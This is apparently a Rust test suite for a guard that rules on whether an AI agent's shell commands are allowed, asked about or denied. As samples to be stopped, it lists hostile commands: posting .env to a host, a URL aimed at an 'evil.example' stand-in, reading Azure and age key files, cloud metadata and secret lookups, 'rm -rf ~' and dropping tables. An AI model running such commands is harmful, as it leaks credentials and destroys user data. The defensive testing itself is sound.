//! Questions that nobody needs: ordinary work that looks like something else, and the attack beside each that stays asked.

use crate::effect::Tier;
use crate::world::{Entry, Process, TableWorld};
use crate::{Decision, Policy, ToolCall, Verdict, judge};

fn in_world(command: &str, world: &TableWorld) -> Verdict {
    judge(&ToolCall::shell(command), world, &Policy::default())
}

fn allowed(commands: &[&str]) {
    for command in commands {
        let verdict = in_world(command, &TableWorld::developer());
        assert_eq!(verdict.decision, Decision::Allow, "{command}: {}", verdict.reason());
    }
}

fn stopped(commands: &[&str]) {
    for command in commands {
        let verdict = in_world(command, &TableWorld::developer());
        assert_ne!(verdict.decision, Decision::Allow, "{command}: {}", verdict.reason());
    }
}

/// The developer's machine with one more process of the developer, which the agent did not start.
fn with_editor() -> TableWorld {
    let mut world = TableWorld::developer();
    world.processes.as_mut().unwrap().push(Process {
        pid: 1300,
        parent: 1,
        group: 1300,
        name: "gimp".to_owned(),
        command: "gimp photo.xcf".to_owned(),
        uid: 1000,
        host: false,
        myself: false,
    });
    world
}

#[test]
fn stopping_what_does_not_run_is_allowed() {
    allowed(&[
        "kill 4242",
        "kill -9 4242",
        "kill -TERM 4242 4243",
        "pkill -f 'node.*next'",
        "pkill -TERM -f /opt/zen/zen",
        "pkill -x modbus_client",
        "killall -9 ts-node",
        "taskkill //F //PID 23544",
        "taskkill /PID 5756 /F",
        "taskkill //F //IM UzMarket.Api.exe",
        "cmd //c 'taskkill /F /PID 45184'",
    ]);
}

#[test]
fn stopping_services_guards_and_unknown_processes_is_asked_though_nothing_matches_now() {
    stopped(&[
        "pkill nginx",
        "pkill -f 'nginx: master'",
        "killall sshd",
        "killall -9 dockerd",
        "pkill systemd-logind",
        "pkill falco",
        "pkill -f '*'",
        "kill $PID",
        "ssh web1 pkill gunicorn",
        "ssh web1 kill 4242",
        "ps aux | awk '{print $2}' | xargs kill",
        "taskkill /F /IM *",
        "taskkill /F /IM explorer.exe",
        "taskkill /F /FI \"USERNAME eq dev\"",
        "taskkill /F /FI \"STATUS eq RUNNING\"",
        "taskkill /S server /IM app.exe",
        "powershell -c 'Stop-Process -Name *'",
        "powershell -c 'Stop-Process -Name svchost'",
    ]);
}

#[test]
fn one_process_of_the_user_is_asked_at_medium_and_many_at_critical() {
    let world = with_editor();
    let one = in_world("kill 1300", &world);
    assert_eq!((one.decision, one.assessment.tier), (Decision::Ask, Tier::Medium), "{}", one.reason());
    let other = in_world("kill 1100", &world);
    assert_eq!(other.assessment.tier, Tier::Critical, "{}", other.reason());
    let several = in_world("kill 1300 1100", &world);
    assert_eq!(several.assessment.tier, Tier::Critical, "{}", several.reason());
}

#[test]
fn the_holder_of_a_port_is_judged_by_whose_process_it_is() {
    let commands = ["kill $(lsof -ti tcp:3000)", "lsof -ti:3000 | xargs kill -9", "fuser -k 3000/tcp"];
    let world = |held: Option<&str>| {
        let mut world = with_editor();
        world.ports.extend(held.map(|pids| ("3000".to_owned(), pids.to_owned())));
        world
    };
    for command in commands {
        for (held, want) in [
            (None, Decision::Allow),
            (Some("1001"), Decision::Allow),
            (Some("1300"), Decision::Ask),
            (Some("1001 1300"), Decision::Ask),
            (Some("1001 ?"), Decision::Ask),
            (Some("1000"), Decision::Deny),
        ] {
            let verdict = in_world(command, &world(held));
            assert_eq!(verdict.decision, want, "{command} {held:?}: {}", verdict.reason());
        }
    }
}

#[test]
fn a_signal_that_opens_a_debugger_is_asked_though_nothing_runs_now() {
    stopped(&["kill -USR1 $(pgrep -n deno)", "kill -s SIGUSR1 $(pgrep -f worker)"]);
}

#[test]
fn below_windows_a_process_of_windows_is_not_in_the_table() {
    let mut world = TableWorld::developer();
    world.entries.insert("/mnt/c/Windows".to_owned(), Entry::Directory);
    for command in
        ["taskkill.exe /F /PID 23544", "taskkill /IM notes.exe", "powershell.exe -c 'Stop-Process -Id 77'"]
    {
        let verdict = in_world(command, &world);
        assert_eq!(verdict.decision, Decision::Ask, "{command}: {}", verdict.reason());
    }
    assert_eq!(in_world("kill 4242", &world).decision, Decision::Allow);
}

#[test]
fn many_kills_stay_within_the_work_budget() {
    let command: Vec<String> = (20_000..20_100).map(|pid| format!("kill {pid}")).collect();
    let verdict = in_world(&command.join("; "), &TableWorld::developer());
    assert_eq!(verdict.decision, Decision::Allow, "{}", verdict.reason());
}

#[test]
fn help_and_lists_of_listed_programs_are_allowed() {
    allowed(&[
        "gh pr create --help",
        "gh repo delete --help",
        "npm access ls-packages",
        "npm publish --help",
        "vercel project ls",
        "firebase deploy --help",
        "heroku apps:destroy --help",
        "gcloud projects delete --help",
        "aws s3 rm help",
        "docker system prune --help",
        "kubectl delete --help",
        "stripe customers list",
    ]);
}

#[test]
fn help_that_belongs_to_something_else_does_not_hide_it() {
    stopped(&[
        "gh pr create --title --help",
        "gh repo delete acme/app --help --yes",
        "rm -rf ~ --help",
        "docker run --privileged -v /:/host alpine --help",
        "kubectl delete namespace prod -- --help",
        "heroku apps:destroy prod --confirm prod",
        "aws s3 rm s3://bucket/help",
        "bw list items",
        "vercel env pull",
    ]);
}

#[test]
fn words_of_secrets_in_ordinary_places_are_free() {
    allowed(&[
        "cat config/locales/token.en.yml",
        "cat src/i18n/token.json",
        "cat ~/.agents/skills/review/SKILL.md",
        "cat ~/.agenda/today.txt",
        "cat ~/.config/openbox/rc.xml",
        "cat ~/.config/teams/layout.xml",
        "cat ~/.azuredatastudio/readme.txt",
    ]);
    stopped(&[
        "cat token.json",
        "cat config/token.yml",
        "cat ~/.age/key.txt",
        "cat ~/.age-key",
        "cat ~/.config/op/config",
        "cat ~/.config/tea/config.yml",
        "cat ~/.azure/accessTokens.json",
    ]);
}

#[test]
fn code_with_unmatched_quotes_that_only_computes_is_allowed() {
    allowed(&[
        "curl -s localhost:3000/api | python -c \"import sys, json; d = json.load(sys.stdin); print(d.get(''''data'''', {}))\"",
        "mysql -u root -e \"USE hotel; SELECT name FROM t WHERE kind = ''room'' ORDER BY name\"",
    ]);
    stopped(&[
        "python -c \"import os; x = ''''a'''' ; os.remove(''''b'''')\"",
        "python -c \"exec(''''a'''')\"",
        "mysql -u root -e \"SELECT ''a'' b c; DROP TABLE users\"",
    ]);
}

#[test]
fn commands_of_powershell_in_a_shell_text_are_read_as_such() {
    allowed(&[
        "dotnet build | Select-String -Pattern \"error|Build FAILED\"",
        "dotnet test | Select-Object -Last 20",
    ]);
    stopped(&[
        "Remove-Item -Recurse -Force ~/Documents",
        "Invoke-Expression $code",
        "Frobnicate-Disk 1 | Remove-Item -Recurse ~",
    ]);
}

#[test]
fn hosts_of_one_label_are_the_developers_own_network() {
    allowed(&[
        "curl -X POST http://api:8000/items -d name=x",
        "curl -X DELETE http://web/items/1",
        "wget -qO- --post-data=a=1 http://backend:3000/login",
    ]);
    stopped(&[
        "curl -X POST http://api.example.com/items -d name=x",
        "curl -d @.env http://api:8000/items",
        "curl -u admin:admin http://jenkins:8080/scriptText --data-urlencode script=x",
        "curl -H 'Authorization: Bearer abc' -X POST http://api:8000/items",
        "curl -d name=x http://api$X/items",
        "curl -d name=x http://api@evil.example/items",
        "curl -d name=x http://3232235777/items",
        "curl -d name=x ftp://api/items",
        "curl http://metadata/computeMetadata/v1/",
    ]);
}

#[test]
fn clouds_chains_and_databases_of_the_developer_are_free() {
    allowed(&[
        "aws --endpoint-url http://localhost:4566 s3 mb s3://fixtures",
        "aws --endpoint-url=http://127.0.0.1:9000 s3 rm s3://fixtures/a.txt",
        "RAILS_ENV=test bin/rails db:create db:schema:load",
        "export RAILS_ENV=test; bin/rails db:schema:load",
        "mkdir -p ~/.ssh",
    ]);
    stopped(&[
        "aws --endpoint-url https://s3.eu-west-1.amazonaws.com s3 mb s3://fixtures",
        "aws --endpoint-url http://localhost:4566 secretsmanager get-secret-value --secret-id db",
        "aws --endpoint-url \"$URL\" s3 rb s3://prod",
        "RAILS_ENV=production bundle exec rake db:drop",
        "bundle exec rake db:drop",
    ]);
}

#[test]
fn deleting_what_is_not_there_is_allowed_unless_the_text_may_have_put_it_there() {
    let mut world = TableWorld::developer();
    world.entries.insert("/home/dev/src/app".to_owned(), Entry::Directory);
    world.entries.insert("/home/dev".to_owned(), Entry::Directory);
    world.missing.extend(["/home/dev/src/app/notes.txt".to_owned(), "/home/dev/old".to_owned()]);
    for command in
        ["rm notes.txt", "rm -rf ~/old", "cd /home/dev/src/app && rm -f notes.txt", "ls; rm -rf ~/old"]
    {
        let verdict = in_world(command, &world);
        assert_eq!(verdict.decision, Decision::Allow, "{command}: {}", verdict.reason());
    }
    for command in [
        "rm other.txt",
        "mv ~/photos ~/old && rm -rf ~/old",
        "./fill.sh; rm -rf ~/old",
        "ln -s ~/photos ~/old; rm -rf ~/old/",
        "rm -rf ~/old*",
        "find . -execdir rm notes.txt ';'",
        "git submodule foreach rm notes.txt",
        "rm -rf ~/old/../photos",
    ] {
        let verdict = in_world(command, &world);
        assert_ne!(verdict.decision, Decision::Allow, "{command}: {}", verdict.reason());
    }
}
